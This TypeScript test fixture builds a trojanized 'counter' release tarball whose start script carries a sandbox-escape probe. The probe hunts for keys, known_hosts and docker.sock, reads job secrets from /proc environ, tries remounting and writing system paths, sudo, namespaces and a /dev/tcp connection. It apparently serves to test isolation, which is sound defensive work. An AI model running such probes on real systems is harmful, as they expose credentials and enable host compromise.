// A release that does as it should on a host, and where it is rehearsed tries to get at all that is there.
import { execFileSync } from "node:child_process";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { releaseFile } from "../e2e/releases.ts";

/** Each line of it that finds something says LOOT. `address`: a host of the lab, and so whoever is on the network. */
const script = (address: string): string => `
case $PWD in
  /tmp/releases/*)
    exec 2>/dev/null
    loot() { echo "LOOT $*"; }
    for root in / /proc/[0-9]*/root /proc/[0-9]*/cwd; do
      found=$(find "$root/" -xdev -maxdepth 6 \\( -name key -o -name event.json -o -name known_hosts -o -name .git -o -name docker.sock \\) ! -path '*/usr/*' | head -n 3)
      [ -z "$found" ] || loot "files of the job:" $found
    done
    ! find / -xdev -maxdepth 1 \\( -name home -o -name root -o -name work -o -name opt \\) | grep . || loot places
    for of in /proc/[0-9]*; do
      ! tr '\\0' '\\n' <"$of/environ" | grep -E '^(INPUT_|GITHUB_|RUNNER_)' || loot "$of has an environment of the job"
      ! ls -l "$of/fd" | grep -vE ' -> (pipe|socket|anon_inode):| -> /(dev/null|proc/|tmp/)' | grep -e '->' || loot "$of has a file of ours"
      ! tr '\\0' ' ' <"$of/cmdline" | grep -E 'index.js|sshd' || loot "$of is a process of others"
    done
    [ ! -r /proc/1/environ ] || [ -z "$(cat /proc/1/environ)" ] || loot environment of 1
    ! readlink /proc/1/root || loot root of 1
    [ -z "$(head -c 1 /proc/1/maps)" ] || loot memory of 1
    for place in / /usr /tmp /run /proc /proc/sys /dev/null /etc/alternatives; do
      ! umount -l "$place" || loot "unmounted $place"
      ! mount -o remount,bind,rw "$place" || loot "opened $place"
    done
    for place in / /usr /usr/bin /etc /proc/sys/kernel /dev; do ! touch "$place/here" || loot "wrote to $place"; done
    ! echo core >/proc/sys/kernel/core_pattern || loot core_pattern
    ! grep -E '^Cap(Inh|Prm|Eff|Bnd|Amb):' /proc/self/status | grep -v 0000000000000000 || loot capabilities
    grep -q '^NoNewPrivs:.1$' /proc/self/status || loot new privileges
    ! sudo -n true || loot sudo
    ! unshare --mount true || loot mounts
    ! unshare -Urm sh -c 'umount -l /proc/sys || umount -l /usr || mount -o remount,bind,rw /usr || mount -t proc proc /proc' || loot nested
    ! bash -c 'exec 3<>/dev/tcp/${address}/22' || loot network
    unshare --user true && echo "can make user namespaces" || echo "can't make user namespaces"
    echo "MODE IS $(printf %s "$MODE" | sha256sum | cut -c 1-16)"
    echo "END OF ATTACK as $(id -u)"
    exit 1 ;;
esac
`;

/** Tarballs of the counter, for a folder of a workspace; the first one is hostile where it is rehearsed. */
export function hostileReleases(address: string): { directory: string; remove(): void } {
  const directory = mkdtempSync(join(tmpdir(), "hostile-"));
  const unpacked = join(directory, "unpacked");
  mkdirSync(unpacked);
  execFileSync("tar", ["-xzf", releaseFile("counter", "1.0.0"), "-C", unpacked]);
  const start = join(unpacked, "bin/counter");
  // Where a start script has hooks the agent leaves it to it how the release is started.
  const text = readFileSync(start, "utf8").replaceAll('PRE_START_HOOKS=""', 'PRE_START_HOOKS="" # ours');
  writeFileSync(
    start,
    text.replace("\n", () => `\n${script(address)}`),
  );
  execFileSync("tar", ["-czf", join(directory, "counter-1.0.0.tar.gz"), "-C", unpacked, "."]);
  rmSync(unpacked, { recursive: true });
  execFileSync("cp", [releaseFile("counter", "1.1.0"), releaseFile("counter", "1.3.0"), directory]);
  return { directory, remove: () => rmSync(directory, { recursive: true }) };
}
